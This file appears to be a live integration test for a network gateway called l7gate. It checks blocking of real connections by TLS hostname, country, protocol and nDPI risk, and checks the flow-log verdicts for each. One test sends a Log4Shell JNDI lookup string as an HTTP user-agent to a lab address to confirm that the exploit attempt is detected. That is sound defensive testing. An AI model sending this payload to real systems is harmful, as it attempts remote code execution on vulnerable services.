#!/usr/bin/python3
"""Live test 2: blocking real connections by hostname (TLS SNI), with reject, by country, by
protocol and by nDPI risk; risks of a numeric-IP HTTP request with a suspicious user-agent.

    L7GATE_BIN=build/l7gate /usr/bin/python3 tests/live/test_live_blocking.py -v

One l7gate (two workers) with the policy below and the test GeoIP database, in which the
server's 198.19.0.80 is US and its 198.19.128.80 is JP. On the same nginx:
- https://blocked.test (SNI) fails with a timeout, https://allowed.test works;
- https://rejected.test fails fast: "connection reset" in under 1 s (l7gate's RSTs);
- HTTP to the JP address is dropped from its first packet, to the US address it works;
- SSH is dropped while HTTP passes;
- https://selfsigned.test (self-signed certificate: nDPI's risk) fails, the chained one works;
- HTTP to a numeric Host with a Log4Shell user-agent passes (no rule) with its risks logged.
The flow log must give each flow the verdict and reason of the rule that hit it.

Set L7GATE_LIVE_BREAK=1 to run the same checks against a policy whose blocking markers were
turned into pass: the test must then fail (that is how it shows it detects broken blocking).
"""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from livelab import LiveCase, main, report, GEOIP  # noqa: E402

POLICY = """version: 1
default_policy: lan
pools:
  - {name: lan, ip: [198.18.0.0/24, "2001:db8:100::10/128"], policy: lan}
policies:
  lan:
    default: pass
    hostnames: {blocked.test: drop, rejected.test: reject}
    protocols: {SSH: drop}
    countries: {JP: drop}
    risks: {tls_selfsigned_certificate: drop}
"""
if os.environ.get("L7GATE_LIVE_BREAK"):
    POLICY = POLICY.replace(": drop", ": pass").replace(": reject", ": pass")

LOG4SHELL_UA = "${jndi:ldap://198.18.0.66:1389/a}"


class BlockingTest(LiveCase):
    TAG = "b"

    def test_blocking(self):
        lab = self.lab
        gate = lab.gate(POLICY, qpairs=2, extra=["--geoip", GEOIP])
        srv4, jp4 = lab["SRV4"], lab["SRV4JP"]

        # Hostname (SNI): drop times out, the allowed name on the same server works.
        rc, secs, err = lab.https("blocked.test", timeout=3)
        self.assertEqual(rc, 28, "blocked.test must time out (curl exit 28), got %s: %s" % (rc, err))
        rc, _, err = lab.https("allowed.test")
        self.assertEqual(rc, 0, "allowed.test: " + err)

        # reject: connection reset, fast. Several tries: the slowest counts.
        worst = 0.0
        for _ in range(3):
            rc, secs, err = lab.https("rejected.test", timeout=5)
            self.assertIn(rc, (35, 56), "rejected.test: curl %s: %s" % (rc, err))
            self.assertIn("reset", err.lower(), err)
            worst = max(worst, secs)
        self.assertLess(worst, 1.0, "reject must fail fast")
        report("reject: curl https://rejected.test fails with '%s' in %.3f s at worst (3 tries)"
               % (err, worst))

        # Country: the JP address is dropped from the first packet, the US one works.
        rc, _, err = lab.curl("http://%s/" % jp4, timeout=3)
        self.assertEqual(rc, 28, "JP address must time out: %s %s" % (rc, err))
        rc, _, err = lab.curl("http://%s/" % srv4)
        self.assertEqual(rc, 0, err)

        # Protocol: SSH dropped, HTTP passes.
        p = lab.ssh(timeout=3)
        self.assertNotEqual(p.returncode, 0, "SSH must be dropped")
        rc, _, err = lab.curl("http://www.lab.test/", resolve="www.lab.test:80:" + srv4)
        self.assertEqual(rc, 0, err)

        # Risk: the self-signed server fails, the properly chained one passes.
        rc, _, err = lab.https("selfsigned.test", timeout=3)
        self.assertNotEqual(rc, 0, "selfsigned.test must be dropped (nDPI self-signed risk)")
        rc, _, err = lab.https("chained.test")
        self.assertEqual(rc, 0, "chained.test: " + err)

        # Numeric IP host and a suspicious user-agent: passes, risks in the flow log.
        rc, _, err = lab.curl("http://%s/" % srv4, extra=["-A", LOG4SHELL_UA])
        self.assertEqual(rc, 0, err)

        st = gate.stop()
        recs, _ = gate.records()
        rx, tx, dropped = self.assertAccounted(st)
        report("blocking packets: rx %d = tx %d + dropped %d (policy %d); RSTs sent %s"
               % (rx, tx, dropped, st["drops"]["policy"], st.get("injected", {}).get("sent")))
        self.assertEqual(dropped, st["drops"]["policy"])
        self.assertGreater(st["injected"]["sent"], 0, "reject sent RSTs")

        def by(pred):
            return [r for r in recs if pred(r)]

        def verdicts(rs):
            return {(r["verdict"], r["verdict_reason"]) for r in rs}

        tls = lambda host: by(lambda r: r["l7_proto"].startswith("TLS") and r["host"] == host)  # noqa: E731
        self.assertEqual(verdicts(tls("blocked.test")), {("drop", "lan/hostnames/blocked.test")})
        self.assertEqual(verdicts(tls("rejected.test")), {("reject", "lan/hostnames/rejected.test")})
        self.assertEqual(verdicts(tls("allowed.test")), {("pass", "lan/default")})
        self.assertEqual(verdicts(tls("chained.test")), {("pass", "lan/default")})
        ss = tls("selfsigned.test")
        self.assertEqual(verdicts(ss), {("drop", "lan/risks/tls_selfsigned_certificate")})
        self.assertIn("Self-signed Certificate", ss[0]["risks"])
        jp = by(lambda r: r["dst_ip"] == jp4 and r["l4_proto"] == "TCP")
        self.assertEqual(verdicts(jp), {("drop", "lan/countries/JP")})
        # This policy also has hostname and protocol markers, which precede countries, but every
        # one of them drops or rejects: whatever nDPI says, the flow is dropped (README, policy
        # semantics 6), so from its first packet: the SYN never reaches the server and nothing
        # comes back.
        self.assertTrue(jp and all(r["s2c_packets"] == 0 for r in jp), jp)
        self.assertEqual(verdicts(by(lambda r: r["l7_proto"] == "SSH")), {("drop", "lan/protocols/SSH")})
        ua = by(lambda r: r["l7_proto"] == "HTTP" and r["host"] == srv4)
        self.assertTrue(ua, recs)
        risky = [r for r in ua if "HTTP Suspicious User-Agent" in r["risks"]]
        self.assertTrue(risky, ua)
        for risk in ("HTTP Numeric IP Address", "HTTP Suspicious User-Agent", "Possible Exploit Detected"):
            self.assertIn(risk, risky[0]["risks"])
        report("suspicious request risks: %s, score %d" % (risky[0]["risks"], risky[0]["risk_score"]))


if __name__ == "__main__":
    main()
